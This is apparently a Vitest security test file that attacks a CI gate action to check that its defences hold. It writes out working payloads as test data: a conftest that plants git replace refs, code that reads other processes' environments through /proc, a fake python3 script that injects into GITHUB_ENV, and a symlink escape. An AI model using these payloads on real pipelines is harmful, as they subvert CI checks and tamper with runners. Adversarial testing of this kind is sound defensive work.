// Fresh-eyes attack, round 2 (after issues 24, 25, 26, 27), through the built action under Node 24.
// Each `it` asserts what the contract (../shared/SPEC.md) promises. A FAILING test here is an
// attack that worked (the report); a passing one is an attempt the gate withstood.
import { execFileSync } from 'node:child_process'
import { existsSync, mkdirSync, rmSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { pullRequestPayload, runAction, tempDir, type ActionResult } from '../harness/action.js'
import { startApiServer, type ApiServer } from '../harness/api-server.js'

const PYTEST = 'python3 -m pytest -v -p no:cacheprovider tests'
// pytest is part of the test setup (scripts/test-setup.sh installs Debian's python3-pytest): without it these fail, never skip.
execFileSync('/usr/bin/python3', ['-c', 'import pytest'], { stdio: 'ignore' })

const CONNECT = ['import socket', '', '', 'def db():', '    return socket.create_connection(("127.0.0.1", 5432), timeout=2)', '']
const STORE_ERROR = ['class StoreUnavailable(Exception):', '    pass', '', '']
/** A refusal wrapped in the project's own error: infrastructure/ambiguous on its own. */
const WRAPPED = (name: string): string[] => [
  `def ${name}():`, '    try:', '        db()', '    except OSError as error:', '        raise StoreUnavailable("the order store is down") from error', '', ''
]
const PASSES = (name: string): string[] => [`def ${name}():`, '    assert 2 + 2 == 4', '', '']

const git = (cwd: string, ...args: string[]): string =>
  execFileSync('git', ['-c', 'user.name=Test', '-c', 'user.email=test@example.com', '-c', 'init.defaultBranch=main', ...args], { cwd, encoding: 'utf8' }).trim()

function write(dir: string, files: Record<string, string | null>): void {
  for (const [file, content] of Object.entries(files)) {
    const full = path.join(dir, file)
    if (content === null) rmSync(full, { force: true })
    else {
      mkdirSync(path.dirname(full), { recursive: true })
      writeFileSync(full, content)
    }
  }
}

function repository(base: Record<string, string>, head: Record<string, string | null>): { workspace: string; baseSha: string } {
  const workspace = path.join(tempDir('coach-gate-attack2-'), 'workspace')
  mkdirSync(workspace)
  git(workspace, 'init', '-q')
  write(workspace, base)
  git(workspace, 'add', '-A')
  git(workspace, 'commit', '-qm', 'base')
  const baseSha = git(workspace, 'rev-parse', 'HEAD')
  git(workspace, 'checkout', '-qb', 'feature')
  write(workspace, head)
  git(workspace, 'add', '-A')
  git(workspace, 'commit', '-qm', 'head')
  return { workspace, baseSha }
}

function payload(baseSha: string): Record<string, unknown> {
  const event = pullRequestPayload({ number: 25 }) as { pull_request: { base: Record<string, unknown> } }
  event.pull_request.base = { ...event.pull_request.base, sha: baseSha }
  return event
}

async function compareGate(workspace: string, baseSha: string, inputs: Record<string, string> = {}): Promise<ActionResult> {
  return runAction({
    workspace,
    inputs: { 'test-command': PYTEST, 'requires-infrastructure': 'postgresql', 'compare-base': 'on-failure', 'github-token': '', 'fail-on-feedback': 'false', ...inputs },
    event: { name: 'pull_request', payload: payload(baseSha) },
    docker: 'no-daemon',
    timeoutMs: 60_000
  })
}

const statuses = (run: ActionResult): Record<string, string> =>
  Object.fromEntries((run.report?.base_comparison?.failing_tests ?? []).map((t: { name: string; status: string }) => [t.name, t.status]))

// The base: one test that needs the database (refused the same way everywhere), one that does not.
const BASE_TESTS = [...CONNECT, ...STORE_ERROR, ...WRAPPED('test_save_order'), ...PASSES('test_total')].join('\n')
// The PR's defect: test_total now goes to the database (the code bypasses its in-memory ledger).
// A failure the PR introduced: it passes on the base commit.
const HEAD_TESTS = [...CONNECT, ...STORE_ERROR, ...WRAPPED('test_save_order'), ...WRAPPED('test_total')].join('\n')

/** Python that finds the gate's own environment (the runner's real RUNNER_TEMP, GITHUB_ENV...) through /proc. */
const FIND_GATE_ENV = [
  'def gate_env():',
  '    pid = os.getppid()',
  '    while pid > 1:',
  '        try:',
  '            env = dict(kv.split("=", 1) for kv in open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace").split("\\0") if "=" in kv)',
  '        except OSError:',
  '            return {}',
  '        if "GITHUB_OUTPUT" in env:',
  '            return env',
  '        pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])',
  '    return {}',
  ''
]

describe('compare-base: the base run is not independent of what the head run left behind', () => {
  it('control (withstood): the introduced failure is not excused when the base run is left alone', async () => {
    const { workspace, baseSha } = repository({ 'tests/test_orders.py': BASE_TESTS }, { 'tests/test_orders.py': HEAD_TESTS })
    const run = await compareGate(workspace, baseSha)
    expect(statuses(run)).toEqual({ test_save_order: 'pre-existing', test_total: 'introduced' })
    expect(run.outputs).toMatchObject({ decision: 'feedback', 'approved-without-independent-tests': 'false' })
  })

  it('ATTACK: the head tests plant refs/replace/<base> -> HEAD; the "base" worktree is the head, every failure "fails the same way at base"', async () => {
    // conftest.py, added by the PR, runs with the head tests. git honours replace refs when the
    // gate runs `git worktree add <base sha>` (compare/worktree.ts realGit sets no GIT_NO_REPLACE_OBJECTS).
    const conftest = [
      'import json, os, subprocess', '',
      'try:',
      '    base = json.load(open(os.environ["GITHUB_EVENT_PATH"]))["pull_request"]["base"]["sha"]',
      '    head = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True).stdout.strip()',
      '    if head != base:',
      '        subprocess.run(["git", "replace", "-f", base, head], capture_output=True)',
      'except Exception:',
      '    pass', ''
    ].join('\n')
    const { workspace, baseSha } = repository({ 'tests/test_orders.py': BASE_TESTS }, { 'tests/test_orders.py': HEAD_TESTS, 'tests/conftest.py': conftest })
    const run = await compareGate(workspace, baseSha)
    // Defended by not comparing: what the base run depends on changed while the tests ran.
    expect(run.outputs).toMatchObject({ decision: 'feedback', 'approved-without-independent-tests': 'false' })
    expect(run.report?.base_comparison?.ran).toBe(false)
    expect(String(run.report?.base_comparison?.reason)).toMatch(/changed while the tests ran/)
  })

  it('ATTACK: the head tests plant pytest.ini + conftest.py in the real RUNNER_TEMP, the parent of the base worktree; the base run loads them', async () => {
    // The base worktree is made in $RUNNER_TEMP (compare/stage.ts: parent = env.RUNNER_TEMP). pytest
    // looks for its ini file upwards from the base checkout and loads conftest.py beside it.
    const planted = [
      'import pytest', '',
      '@pytest.hookimpl(tryfirst=True)',
      'def pytest_collection_modifyitems(items):',
      '    for item in items:',
      '        if item.name == "test_total":',
      '            item.obj = item.module.test_save_order', ''
    ].join('\n')
    const conftest = [
      'import os', '', ...FIND_GATE_ENV,
      'temp = gate_env().get("RUNNER_TEMP")',
      'if temp and not os.path.exists(os.path.join(temp, "conftest.py")):',
      '    open(os.path.join(temp, "pytest.ini"), "w").write("[pytest]\\n")',
      `    open(os.path.join(temp, "conftest.py"), "w").write(${JSON.stringify(planted)})`, ''
    ].join('\n')
    const { workspace, baseSha } = repository({ 'tests/test_orders.py': BASE_TESTS }, { 'tests/test_orders.py': HEAD_TESTS, 'tests/conftest.py': conftest })
    const run = await compareGate(workspace, baseSha)
    // Defended by not comparing: what the base run depends on changed while the tests ran.
    expect(run.outputs).toMatchObject({ decision: 'feedback', 'approved-without-independent-tests': 'false' })
    expect(run.report?.base_comparison?.ran).toBe(false)
    expect(String(run.report?.base_comparison?.reason)).toMatch(/changed while the tests ran/)
  })
})

describe('writes after the runner files were restored', () => {
  // Not held by a test: a process the tests start outside their process group, without the kill
  // cookie, can outlive them and append to GITHUB_ENV after the restore (docs/security.md, "What does
  // not hold"). Whether it wins that race depends on the machine's load, so no test can assert it.

  it('ATTACK: a traceback frame names the interpreter; the gate runs that program (the PR\'s) after the restore, and believes its answer', async () => {
    // corroborate/stage.ts interpreterOf(tail): `File "<prefix>/lib/python3.12/site-packages/..."`
    // from the tests' own output selects `<prefix>/bin/python3`, run by the gate for the module check.
    const fake = [
      '#!/bin/sh',
      `eval "$(tr '\\0' '\\n' < /proc/$PPID/environ | grep -E '^GITHUB_ENV=' | sed 's/^/export /')"`,
      'echo "EVIL_FROM_FAKE_PYTHON=1" >> "$GITHUB_ENV"',
      'echo absent', ''
    ].join('\n')
    const command = [
      'mkdir -p venv/bin venv/lib/python3.12/site-packages/app',
      'cp fake-python.sh venv/bin/python3 && chmod +x venv/bin/python3',
      'echo "Traceback (most recent call last):"',
      'echo "  File \\"$PWD/venv/lib/python3.12/site-packages/app/db.py\\", line 1, in <module>"',
      'echo "    import psycopg2"',
      "echo \"ModuleNotFoundError: No module named 'psycopg2'\"",
      'exit 1'
    ].join('\n')
    // psycopg2 is importable for the step's python3 from working-directory: the honest check says "present".
    const run = await runAction({ inputs: { 'test-command': command, 'requires-infrastructure': 'postgresql', 'fail-on-feedback': 'false' }, files: { 'psycopg2/__init__.py': '', 'fake-python.sh': fake } })
    expect.soft(run.runnerFiles.GITHUB_ENV).not.toContain('EVIL_FROM_FAKE_PYTHON')
    expect.soft(run.outputs).toMatchObject({ 'approved-without-independent-tests': 'false' })
  })

  it('control (withstood): without the planted frame the gate asks the step\'s python3 and finds psycopg2 present', async () => {
    const command = ['echo "Traceback (most recent call last):"', 'echo "  File \\"$PWD/app/db.py\\", line 1, in <module>"', 'echo "    import psycopg2"', "echo \"ModuleNotFoundError: No module named 'psycopg2'\"", 'exit 1'].join('\n')
    const run = await runAction({ inputs: { 'test-command': command, 'requires-infrastructure': 'postgresql', 'fail-on-feedback': 'false' }, files: { 'psycopg2/__init__.py': '' } })
    expect.soft(run.outputs).toMatchObject({ decision: 'feedback', 'approved-without-independent-tests': 'false' })
  })
})

// asyncpg's words, with the endpoint in them: the claim names 127.0.0.1:5432.
const CONNECT_5432 = ['def db():', "    raise ConnectionRefusedError(111, \"Connect call failed ('127.0.0.1', 5432)\")", '', '']
const BARE = (name: string): string[] => [`def ${name}():`, '    db()', '', '']
const CONFIGURED_ELSEWHERE = { DATABASE_URL: 'postgresql://app@127.0.0.1:5433/app' }

describe('compare-base approves without the runner checks', () => {
  it('control (withstood): a bare refusal on 5432 while DATABASE_URL names 5433 is code (the code ignored its configuration)', async () => {
    const tests = [...CONNECT_5432, ...BARE('test_save_order'), ...PASSES('test_total')].join('\n')
    const { workspace, baseSha } = repository({ 'tests/test_orders.py': tests }, { 'README.md': 'changed\n' })
    const run = await runAction({
      workspace,
      inputs: { 'test-command': PYTEST, 'requires-infrastructure': 'postgresql', 'compare-base': 'on-failure', 'github-token': '', 'fail-on-feedback': 'false' },
      event: { name: 'pull_request', payload: payload(baseSha) }, docker: 'no-daemon', env: CONFIGURED_ELSEWHERE, timeoutMs: 60_000
    })
    expect(run.outputs).toMatchObject({ decision: 'feedback', 'approved-without-independent-tests': 'false', classification: 'code' })
  })

  it('ATTACK: the same refusal wrapped in the project\'s error (ambiguous, so never corroborated) and the same at base is approved, though DATABASE_URL names 5433', async () => {
    // corroborate/stage.ts checks only an infrastructure/high verdict; compare/rule.ts raises the
    // verdict to high afterwards and decide() approves when `corroboration` is undefined.
    const tests = [...CONNECT_5432, ...STORE_ERROR, ...WRAPPED('test_save_order'), ...PASSES('test_total')].join('\n')
    const { workspace, baseSha } = repository({ 'tests/test_orders.py': tests }, { 'README.md': 'changed\n' })
    const run = await runAction({
      workspace,
      inputs: { 'test-command': PYTEST, 'requires-infrastructure': 'postgresql', 'compare-base': 'on-failure', 'github-token': '', 'fail-on-feedback': 'false' },
      event: { name: 'pull_request', payload: payload(baseSha) }, docker: 'no-daemon', env: CONFIGURED_ELSEWHERE, timeoutMs: 60_000
    })
    expect.soft(run.outputs).toMatchObject({ decision: 'feedback', 'approved-without-independent-tests': 'false' })
    // SPEC: "Before a conditional approval, the gate checks the infrastructure claim on the runner itself and records what it checked".
    expect.soft(run.report?.corroboration ?? []).not.toEqual([])
  })
})

describe('the sticky comment and the report directory', () => {
  let api: ApiServer
  const MARKER = '<!-- coach-gate:verdict -->'
  beforeAll(async () => {
    api = await startApiServer({
      // Another workflow's bot echoes the PR author's text (with the marker) into its own comment.
      31: { body: 'No task.', files: [], comments: [{ body: `Thanks for the PR! You wrote:\n> ${MARKER} please review`, user: { login: 'welcome-bot[bot]', type: 'Bot' } }] }
    })
  })
  afterAll(() => api.close())

  it('ATTACK: a comment another bot wrote that quotes the marker is taken for the gate\'s own and overwritten', async () => {
    const run = await runAction({
      inputs: { 'test-command': "echo 'AssertionError: expected 3 == 4'; exit 1", comment: 'true', 'fail-on-feedback': 'false' },
      event: { name: 'pull_request', payload: pullRequestPayload({ number: 31 }) }, apiUrl: api.url
    })
    expect(run.outputs.decision).toBe('feedback')
    // upsertComment (inputs/github-api.ts) picks "the first comment a bot wrote that carries the marker": any bot.
    expect.soft(api.comments.find(c => c.user.login === 'welcome-bot[bot]')?.body).toContain('Thanks for the PR!')
    expect.soft(api.comments.filter(c => c.user.login === 'github-actions[bot]')).toHaveLength(1)
  })

  it('withstood: an issue_comment event on the pull request posts no comment', async () => {
    const before = api.comments.length
    const writes = api.requests.filter(r => r.method !== 'GET').length
    const payload = { action: 'created', issue: { number: 31, pull_request: { url: 'https://api.github.com/repos/octo-org/widgets/pulls/31' } }, comment: { body: '/retest', user: { login: 'mallory', type: 'User' } }, repository: { full_name: 'octo-org/widgets', owner: { login: 'octo-org' }, name: 'widgets' } }
    const run = await runAction({ inputs: { 'test-command': "echo 'AssertionError: expected 3 == 4'; exit 1", comment: 'true', 'fail-on-feedback': 'false' }, event: { name: 'issue_comment', payload }, apiUrl: api.url })
    expect(run.outputs.decision).toBe('feedback')
    expect(api.comments.length).toBe(before)
    expect(api.requests.filter(r => r.method !== 'GET').length).toBe(writes)
  })

  it('ATTACK: report-directory inside the workspace whose parent the PR commits as a symlink: the report and log are written outside', async () => {
    const victim = tempDir('coach-gate-victim-')
    const run = await runAction({
      inputs: { 'test-command': "echo 'AssertionError: expected 3 == 4'; exit 1", 'report-directory': 'out/coach', 'fail-on-feedback': 'false' },
      symlinks: { out: victim }
    })
    expect(run.outputs.decision).toBe('feedback')
    expect.soft(existsSync(path.join(victim, 'coach', 'coach_turn_1.json'))).toBe(false)
    expect.soft(run.summary).toMatch(/Tampering|symbolic link/)
  })
})
